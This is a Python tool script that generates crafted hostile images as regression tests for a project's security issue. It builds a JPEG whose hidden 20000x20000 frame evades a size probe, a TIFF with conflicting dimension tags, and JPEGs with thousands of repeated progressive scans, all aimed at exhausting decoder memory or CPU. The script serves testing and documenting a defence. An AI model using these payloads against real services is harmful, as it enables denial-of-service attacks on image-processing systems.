"""Write the crafted images of issue 31, the regression files under tests/runtime/hostile/.

Why a script rather than opaque binaries: each file is a few bytes of deliberate lie on top
of a real OpenCV encoding, and reading how it is built is the documentation of the attack.
The committed files are small; ``--full DIR`` also writes the full-size variants used for
the before/after figures in docs/security/hostile_images.md (not committed: 683 KB+).

* ``desync.jpg`` (~650 bytes): after SOI, ``FF 00 LL LL`` then a 20000x20000 frame header,
  Huffman tables and a scan; then a 1x1 frame header and a scan. A probe that reads
  ``FF 00`` as a segment of length ``LLLL`` skips to the 1x1 frame; libjpeg discards
  ``FF 00``, keeps scanning and decodes 20000x20000 (1.2 GB of BGR).
* ``desync.tif`` (~4 KB): ImageWidth/ImageLength 20000x20000 first, then 1x1 again; libtiff
  uses the first. Deflate strips of 64 rows, all pointing at one 1.3 KB block of zeros.
* ``many_scans.jpg`` (~35 KB): a real 2000x2000 progressive JPEG whose last AC refinement
  scan (31 bytes) is repeated up to 600 scans; ``--full``: 4000x4000 with 20,000 scans
  (683 KB, the issue's file); the most scans the limits admit at 25 MP (5000x5000 colour,
  42 scans) and a photo-like 25 MP progressive JPEG, to compare their decoding work.

Run: ``.venv/bin/python tools/make_hostile_images.py [--full DIR]``.
"""

from __future__ import annotations

import argparse
import re
import struct
import sys
import zlib
from pathlib import Path

import cv2
import numpy as np

REPO = Path(__file__).resolve().parents[1]
OUT = REPO / "tests" / "runtime" / "hostile"
_MARKER = re.compile(rb"\xff+([^\x00\xff])")


def segments(jpeg: bytes) -> list[tuple[int, bytes]]:
    """(marker, whole segment bytes incl. entropy data after SOS) from SOI to EOI."""
    out, pos = [], 2
    while True:
        m = _MARKER.search(jpeg, pos)
        assert m is not None
        marker = m.group(1)[0]
        if marker == 0xD9:
            return out
        length = struct.unpack_from(">H", jpeg, m.end())[0]
        end = m.end() + length
        if marker == 0xDA:  # the scan runs to the next marker that is not RSTn
            nxt = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]").search(jpeg, end)
            assert nxt is not None
            end = nxt.start()
        out.append((marker, jpeg[m.start():end]))
        pos = end


def _sof(seg: bytes, h: int, w: int) -> bytes:
    return seg[:5] + struct.pack(">HH", h, w) + seg[9:]


def desync_jpeg(h: int = 20000, w: int = 20000) -> bytes:
    ok, enc = cv2.imencode(".jpg", np.full((8, 8, 3), 128, np.uint8))
    assert ok
    segs = segments(enc.tobytes())
    pre = b"".join(s for m, s in segs if m in (0xE0, 0xDB))  # APP0, DQT: both readers see
    sof = next(s for m, s in segs if m == 0xC0)
    rest = b"".join(s for m, s in segs if m in (0xC4, 0xDA))  # DHT x4, SOS + its data
    hidden = _sof(sof, h, w) + rest
    return (b"\xff\xd8" + pre + b"\xff\x00" + struct.pack(">H", len(hidden) + 2) + hidden
            + _sof(sof, 1, 1) + rest + b"\xff\xd9")


def _ifd_entry(e: str, tag: int, typ: int, count: int, value: int) -> bytes:
    if typ == 3 and count == 1:
        return struct.pack(e + "HHIHH", tag, typ, count, value, 0)
    return struct.pack(e + "HHII", tag, typ, count, value)


def desync_tiff(h: int = 20000, w: int = 20000, rows: int = 64) -> bytes:
    e = "<"
    block = zlib.compress(bytes(rows * w), 9)
    strips = -(-h // rows)
    entries = [(256, 4, 1, w), (257, 4, 1, h), (256, 3, 1, 1), (257, 3, 1, 1),
               (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (273, 4, strips, 0),
               (277, 3, 1, 1), (278, 4, 1, rows), (279, 4, strips, 0)]
    ifd_at = 8
    arrays_at = ifd_at + 2 + 12 * len(entries) + 4
    offsets_at, counts_at = arrays_at, arrays_at + 4 * strips
    block_at = counts_at + 4 * strips
    fixed = {273: offsets_at, 279: counts_at}
    ifd = struct.pack(e + "H", len(entries)) + b"".join(
        _ifd_entry(e, t, ty, c, fixed.get(t, v)) for t, ty, c, v in entries)
    return (b"II*\x00" + struct.pack(e + "I", ifd_at) + ifd + struct.pack(e + "I", 0)
            + struct.pack(e + f"{strips}I", *([block_at] * strips))
            + struct.pack(e + f"{strips}I", *([len(block)] * strips)) + block)


def many_scans(side: int, scans: int, color: bool = False) -> bytes:
    """A real progressive JPEG of ``side`` x ``side`` whose last scan is repeated."""
    img = np.full((side, side, 3) if color else (side, side), 128, np.uint8)
    ok, enc = cv2.imencode(".jpg", img, [cv2.IMWRITE_JPEG_PROGRESSIVE, 1])
    assert ok
    segs = segments(enc.tobytes())
    have = sum(1 for m, _ in segs if m == 0xDA)
    last = segs[-1][1]
    assert segs[-1][0] == 0xDA
    return (b"\xff\xd8" + b"".join(s for _, s in segs)
            + last * max(0, scans - have) + b"\xff\xd9")


def natural(side: int) -> bytes:
    """A photo-like progressive JPEG (smooth noise, 10 scans): what a real big image costs."""
    rng = np.random.default_rng(0)
    img = cv2.resize(rng.integers(0, 255, (side // 10, side // 10, 3), dtype=np.uint8),
                     (side, side), interpolation=cv2.INTER_CUBIC)
    ok, enc = cv2.imencode(".jpg", img, [cv2.IMWRITE_JPEG_PROGRESSIVE, 1])
    assert ok
    return enc.tobytes()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--full", type=Path, help="also write the full-size attack files here")
    args = ap.parse_args(argv)
    files = {OUT / "desync.jpg": desync_jpeg(), OUT / "desync.tif": desync_tiff(),
             OUT / "many_scans.jpg": many_scans(2000, 600)}
    if args.full:
        files |= {args.full / "desync_30000.jpg": desync_jpeg(30000, 30000),
                  args.full / "scans_20000.jpg": many_scans(4000, 20000),
                  args.full / "scans_40000.jpg": many_scans(4000, 40000),
                  args.full / "scans_100_5000.jpg": many_scans(5000, 100, color=True),
                  args.full / "scans_42_5000.jpg": many_scans(5000, 42, color=True),
                  args.full / "natural_5000.jpg": natural(5000)}
    for path, data in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"{path.relative_to(REPO) if path.is_relative_to(REPO) else path}: "
              f"{len(data)} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
